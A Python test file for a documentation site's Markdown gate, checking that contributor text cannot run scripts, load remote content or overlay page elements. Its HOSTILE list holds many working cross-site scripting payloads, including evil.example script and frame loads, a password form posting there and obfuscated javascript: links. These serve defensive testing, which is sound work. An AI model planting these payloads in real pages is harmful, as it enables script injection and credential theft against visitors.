"""The gate for text: nothing that a contributor writes on a page becomes a script, or loads from another host."""

from __future__ import annotations

import re

import pytest
from gated import CHAPTER, CONTRIBUTING, HOME, harm, page, rendered

HOSTILE = (
    # HTML that runs, loads, frames or sends
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "text <script\n>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "`a\n<script>alert(1)</script>\nb`",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/p.png'>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=x.swf></object>",
    "<embed src=x.swf>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<title>",
    "<plaintext>",
    "<textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</div></main><h1>Ours</h1>",
    "<!DOCTYPE html>",
    "<?php echo 1 ?>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--> <script>alert(1)</script> -->",
    "<!-- --!> <script>alert(1)</script> -->",
    "<!-- a\nb -->",
    "<!-- html -->\n<b onclick=alert(1)>x</b>\n<!-- /html -->",
    "`<!-- html -->`",
    '<div markdown="1">\n[x](javascript:alert(1))\n</div>',
    "<br onclick=alert(1)>",
    "<small style=position:fixed>x</small>",
    "<kbd\n>x</kbd>",
    "<a href=javascript:alert(1)>x</a>",
    '<a href="https://good.example" target=_blank>x</a>',
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](ftp://evil.example/)",
    "[x](tel:123)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](/\\evil.example)",
    "[x](https://good.example@evil.example/)",
    '[x](https://good.example"onclick=alert(1))',
    "[x](page.md 'a\"onclick=alert(1)')",
    '[x](page.md "<script>alert(1)</script>")',
    "[x](page.md){onclick=alert(1)}",
    "[x]({talk easy})",
    "[x](javascript&colon;alert(1))",
    "[x]()",
    "[x][a]\n\n[a]: javascript:alert(1)",
    "[a]\n\n   [a]: <javascript:alert(1)>",
    "> [a]: javascript:alert(1)\n\n[a]",
    "- [a]: javascript:alert(1)\n\n[a]",
    "1. - > [a]:\n  javascript:alert(1)\n\n[a]",
    "[a\nb]: javascript:alert(1)",
    "!!! note\n    [a]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<ftp://evil.example>",
    '<https://evil.example/"onclick=alert(1)>',
    '<x@y.example?body=">',
    "<https://a.example/?b&#x22;c>",
    "[x](https://a.example/?b&quot;c)",
    # pictures
    "![x](https://evil.example/p.png)",
    "![x](//evil.example/p.png)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![a [b](c.md) d](https://evil.example/p.png)",
    "![x][a]",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](<a.png>)',
    "[![x](https://evil.example/p.png)](page.md)",
    # attributes
    "# Heading { onclick=alert(1) }",
    "# Heading {: onclick='alert(1)' }",
    "text\n{: onclick=alert(1) }",
    "*x*{onclick=alert(1)}",
    "*x*{: style=position:fixed;inset:0 }",
    "*x*{ .md-overlay }",
    "*x*{ #__search }",
    "| a |\n| - |\n| b {onclick=alert(1)} |",
    "``` { .js onclick=alert(1) }\nx\n```",
    "~~~ {.js #a data-x=1}\nx\n~~~",
    "```js onclick=alert(1)\nx\n```",
    "*x*{hidden} }onclick=alert(1)}",
    "[x](https://a.example){ target }",  # an opened page can send the one that opened it elsewhere
    "[x](https://a.example){: x Target y }",
    "*x*{ hidden }",
    "*x*{: hidden }",
    "x\n{: popover }",
    "## __search",
    "## &#95;&#95;search",
    "## &lowbar;&lowbar;drawer",
    "## \uff3f\uff3fsearch",
    "## \u0436__search",
    "## ![x](a.svg)__search",
    "## [](a.md)__search",
    "## <br>__search",
    # elements that reach beyond their place: all that follows would be small
    "<small>x",
    "<small>x\n\ny</small>",
    "a </small> b",
    "<small> `</small>`",
    "*<small>x* y</small>",
    "<sup><sup><sup>x</sup></sup></sup>",
    "| <kbd>a | b</kbd> |\n| - | - |",
    "## <'\uff3f>_x",
    # boxes
    '<!-- a -->!!! md-overlay "x"',
    '1. !!! md-overlay "x"',
    "<br>``` { .js onclick=alert(1) }\nx\n```",
    '!!! note md-overlay "x"',
    '??? x"onclick=alert(1)',
    '!!! md-search__overlay "x"',
    # characters
    "a\u202eb",
    "a\u2066b",
    "a\x1b[31mb",
    "a\x00b",
    "a\x02wzxhzdk:0\x03b",
    "a\x85b",
    "a\u2028b",
    "a\u200bb",
    "a\u00adb",
    "a\ue000b",
    "a\ufeffb",
    "a\ufdd0b",
    "a\U000e0041b",
    "a\U0001fffeb",
    "e\u0301",
    "a" + "\u0301\u0302\u0303",
    "x\u200dy",
    "x\u200d\u2640",
    "x\ufe0f\u200d\u2640",
    "\U0001f3c3\u200dx",
    "\U0001f3c3\u200d",
    "\U0001f3c3\u200d\u200d\u2640",
    "\U0001f3c3\u200c\u2640",
    "a\rb",
    "a&#x202e;b",
    "a&#8238;b",
    "a&#X202E b",
    "a&#2;b",
    "a&#0;b",
    "a&#xE000;b",
    "a&shy;b",
    "a&ZeroWidthSpace;b",
    "a&#x301;b",
    "`a&#x202e;b`",
    # sizes
    "[" * 400,
    "> " * 60 + "x",
    " " * 100 + "- x",
    "x" * 70_000,
)


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_page_holds_what_is_hostile(text: str) -> None:
    for before in ("", "# A heading\n\n", "- a\n\n    "):
        assert page(CHAPTER, before + text), before
    for path in (HOME, CONTRIBUTING):  # there nothing takes values, nor comments for marks
        assert page(path, f"# Heading\n\n{text}") or text == "`<!-- html -->`"


COVERING = (
    '<div class="md-overlay">x</div>',
    '<nav class="md-nav md-nav--primary">x</nav>',
    '<p class="tiles md-header">x</p>',
    "</div></div></div>\n\nbelow the page",
    "<div hidden>\n\nall that follows is not seen",
    "<table>\n<tr><td>\n\nall that follows is a cell",
    "<ul>\n<li><div>\n<li>x</li>\n</div></li>\n</ul>",
    "<div/>",
    "<details>\n<summary>x</summary>",
    '<p title="&#x202e;">x</p>',
)


@pytest.mark.parametrize("text", COVERING)
def test_no_page_of_the_house_reaches_beyond_its_place(text: str) -> None:
    assert page(HOME, f"# Heading\n\n{text}\n")
    assert harm(text)


def test_an_element_that_reaches_beyond_its_place_is_named_where_it_begins() -> None:
    said = page(HOME, '# Heading\n\n<div class="hero">\n<ul class="tiles">\n<li>a</li>\n</ul>\n\nText *b*.\n')
    assert [line.split("\n")[0] for line in said] == ["docs/index.md:3:1: <div> is not closed. Begin and end it in the same place."]


HARMLESS = (
    "---\ntitle: A page\ndescription: Run, “rest” & repeat; it’s 5 or more.\nhide: [navigation, toc]\n---\n\n# Heading\n",
    "# A heading { #its-id }\n\nText with *emphasis*, **weight**, `code`, 3 < 4, a & b, R&D, &lt;x&gt; and 50 % {rpe easy}.",
    "[a](b.md) [c](../d/e.md#f) [g](https://en.example.org/wiki/A_%28b%29?x=1&y=2#z) [h](mailto:who@where.example)",
    '[a](b.md "A title") <https://a.example/b> <who@where.example>',
    "![A picture](a.svg)",
    "- a\n    - b\n\n1. c\n\n> d\n\n| a | b |\n| --- | ---: |\n| c | d |\n",
    '!!! note "A title"\n    Text.\n\n??? tip\n    Text.\n',
    "```yaml\na: [b, c]\n```\n",
    "H<sub>2</sub>O, x<sup>2</sup>, <small>or [b](a.md)</small>, <kbd>Esc</kbd>, a<br>b<br />c, `templates/<kind>/<id>.yaml`",
    "<!-- Words for whoever reads the source -->\n\nText.",
    "Zoë, naïve, ½, 5 °C, → ↔ − × ☐ ✓, “quotes”, non\u00a0breaking, 😀, 🏃\u200d♀️ 👩🏽\u200d⚕️ ❤️\u200d🔥, می\u200cخواهم",
)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_pages_need_passes_and_comes_out_as_it_should(text: str) -> None:
    assert page(CHAPTER, text) == []
    assert harm(rendered(re.sub(r"\A---.*?---", "", text, flags=re.DOTALL))) == []


def test_a_problem_says_where_it_is_and_what_to_write() -> None:
    text = "---\ntitle: A\n---\n\n# Heading\n\nOne [two](javascript:three) four.\n"
    assert page(CHAPTER, text) == [
        "docs/guide/x.md:7:11: “javascript:three” cannot be linked. Write https://…, mailto:… or a page, ../guide/pain.md.\n"
        "    One [two](javascript:three) four.\n              ^"
    ]
